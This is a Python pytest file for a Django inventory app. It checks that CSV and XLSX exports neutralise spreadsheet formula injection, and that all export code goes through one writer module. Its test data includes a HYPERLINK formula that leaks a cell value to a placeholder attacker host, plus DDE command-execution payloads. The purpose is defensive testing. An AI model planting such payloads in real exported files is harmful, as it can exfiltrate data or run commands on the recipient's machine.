"""One CSV/XLSX writer, one formula-injection policy, used by every export path."""

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from django.conf import settings
from django.urls import reverse

from stockroom.accounts.tests.factories import MembershipFactory, UserFactory
from stockroom.catalog.tests.factories import SupplierFactory
from stockroom.core.spreadsheets import csv_cell, write_csv, write_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param(HOSTILE, "'" + HOSTILE, id="equals"),
        pytest.param("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", id="plus"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="minus-formula"),
        pytest.param("@SUM(1+1)", "'@SUM(1+1)", id="at"),
        pytest.param("\t=1+1", "'\t=1+1", id="tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="carriage-return"),
        pytest.param("\n=1+1", "'\n=1+1", id="line-feed"),
        pytest.param("-5.000", "-5.000", id="negative-number-stays-a-number"),
        pytest.param("+12", "+12", id="signed-integer-stays-a-number"),
        pytest.param("Bolt = M8", "Bolt = M8", id="equals-inside"),
        pytest.param(None, "", id="none"),
        pytest.param(7, 7, id="integer"),
    ],
)
def test_csv_cell_policy(value, written):
    assert csv_cell(value) == written


def test_csv_and_xlsx_writers_keep_formula_like_text_as_text():
    csv_file, xlsx_file = io.BytesIO(), io.BytesIO()

    assert write_csv(csv_file, ["name", "qty"], [[HOSTILE, -5], ["-1", "@x"]]) == 2
    assert write_xlsx(xlsx_file, ["name", "qty"], [[HOSTILE, -5], ["-1", "@x"]]) == 2

    text = csv_file.getvalue().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "qty"],
        ["'" + HOSTILE, "-5"],
        ["-1", "'@x"],
    ]
    sheet = load_workbook(xlsx_file).worksheets[0]
    assert [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()] == [
        [("name", "s"), ("qty", "s")],
        [(HOSTILE, "s"), (-5, "n")],
        [("-1", "s"), ("@x", "s")],
    ]


@pytest.mark.django_db
def test_admin_export_selected_as_csv_escapes_formulas(organization, member_client):
    staff = MembershipFactory(organization=organization, role="manager", user=UserFactory())
    staff.user.is_staff = True
    staff.user.save()
    supplier = SupplierFactory(organization=organization, name=HOSTILE, contact_name="@boss")

    response = member_client(staff).post(
        reverse("admin:catalog_supplier_changelist"),
        {"action": "export_as_csv", "_selected_action": [supplier.pk]},
    )

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:2] == ["name", "contact_name"]
    assert rows[1][:2] == ["'" + HOSTILE, "'@boss"]


# --- every other module goes through core.spreadsheets ------------------------------------------

WRITER_MODULE = Path("stockroom/core/spreadsheets.py")
# Building a CSV or XLSX file: csv's writers, openpyxl's writable workbook and cells, xlsxwriter.
CSV_WRITERS = {"writer", "DictWriter"}
OPENPYXL_WRITERS = {"Workbook", "WriteOnlyCell", "Cell"}


def _writer_uses(tree: ast.AST) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if node.value.id == "csv" and node.attr in CSV_WRITERS:
                found.append(f"csv.{node.attr}")
            if node.value.id == "openpyxl" and node.attr in OPENPYXL_WRITERS:
                found.append(f"openpyxl.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module == "csv" and names & CSV_WRITERS:
                found.append(f"from csv import {sorted(names & CSV_WRITERS)}")
            if node.module.startswith("openpyxl") and names & OPENPYXL_WRITERS:
                found.append(f"from {node.module} import {sorted(names & OPENPYXL_WRITERS)}")
            if node.module.startswith("xlsxwriter"):
                found.append(f"from {node.module}")
        elif isinstance(node, ast.Import):
            found.extend(
                f"import {alias.name}"
                for alias in node.names
                if alias.name.startswith(("xlsxwriter", "openpyxl.writer"))
            )
    return found


def _application_modules() -> list[Path]:
    root = Path(settings.BASE_DIR)
    return [
        path.relative_to(root)
        for folder in ("stockroom", "config")
        for path in sorted((root / folder).rglob("*.py"))
        # Tests build input files with openpyxl; migrations write no files.
        if not {"tests", "migrations"} & set(path.relative_to(root).parts)
    ]


def test_scan_finds_a_writer_built_elsewhere():
    source = "import csv\nfrom openpyxl import Workbook\ncsv.writer(f)\n"
    assert sorted(_writer_uses(ast.parse(source))) == [
        "csv.writer",
        "from openpyxl import ['Workbook']",
    ]


def test_only_core_spreadsheets_writes_csv_or_xlsx():
    root = Path(settings.BASE_DIR)
    modules = _application_modules()
    offenders = {
        str(path): uses
        for path in modules
        if path != WRITER_MODULE
        and (uses := _writer_uses(ast.parse((root / path).read_text(), filename=str(path))))
    }

    assert WRITER_MODULE in modules
    assert offenders == {}, "write CSV/XLSX through stockroom.core.spreadsheets"
